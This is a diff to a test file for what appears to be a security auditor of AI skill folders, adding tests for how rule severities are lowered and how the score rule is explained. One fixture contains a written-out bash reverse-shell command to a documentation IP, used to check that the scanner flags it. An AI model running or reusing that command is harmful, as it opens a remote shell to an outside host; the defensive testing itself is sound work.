@@ -3,12 +3,15 @@ import { describe, expect, it } from 'vitest';
 import { allRules } from '../../src/audit/ruleset.ts';
 import { parseFrontMatter } from '../../src/catalog/front-matter.ts';
 import { disputeWords } from '../../src/api/audit/dispute.ts';
-import { disputeLead, disputeSteps } from '../../src/protocol/audit-rules/audit-content.ts';
+import { conditionFacts, disputeLead, disputeSteps } from '../../src/protocol/audit-rules/audit-content.ts';
 import { toFamilyContents } from '../../src/protocol/audit-rules/rule-content.ts';
 import { ruleHref } from '../../src/protocol/audit-rules/rule-links.ts';
 import { scoreExamples } from '../../src/protocol/audit-rules/score-examples.ts';
 import { suppressionExample } from '../../src/protocol/audit-rules/suppression-example.ts';
+import { auditRulesMarkdown } from '../../src/protocol/markdown/audit-rules-page.ts';
 import { SuppressionFrontMatter } from '../../src/schema/collections.ts';
+import { auditScoreRule } from '../../src/scoring/audit-score.ts';
+import { audit, saying } from '../audit/skill-folders.ts';
 
 const rules = toFamilyContents().flatMap((family) => family.rules);
 
@@ -39,6 +42,33 @@ describe('the rules', () => {
     const override = rules.find(({ id }) => id === 'PI-03');
     expect(override?.looksFor.map(({ severity }) => severity)).toContain('low');
     expect(override?.looksFor.map(({ severity }) => severity)).not.toContain('high');
+  });
+});
+
+describe('what lowers a finding', () => {
+  const said = conditionFacts.join('\n');
+
+  it('is said with the level that the engine gives, also of a rule with one of its own', () => {
+    const skill = saying('Never run `bash -i >& /dev/tcp/198.51.100.7/443 0>&1`.');
+    const finding = audit(skill).findings.find(({ rule_id }) => rule_id === 'RC-05');
+    expect(finding).toMatchObject({ base_severity: 'critical', severity: 'low' });
+    expect(said).toContain('RC-05 becomes low');
+    expect(said).toContain('PI-04 stays as it is');
+  });
+  it('is no starting severity: those of single patterns stand beside the rule', () => {
+    expect(rules.find(({ id }) => id === 'RC-02')).toMatchObject({ severity: 'critical', others: ['high'] });
+    expect(rules.find(({ id }) => id === 'RC-01')?.others).not.toContain('high');
+  });
+});
+
+describe('the rule of the score', () => {
+  it('is the same sentences wherever it is explained', () => {
+    const page = auditRulesMarkdown({
+      client: null,
+      siteUrl: 'https://skills.example',
+      programRepository: null,
+    });
+    for (const sentence of auditScoreRule) expect(page).toContain(sentence);
   });
 });
 
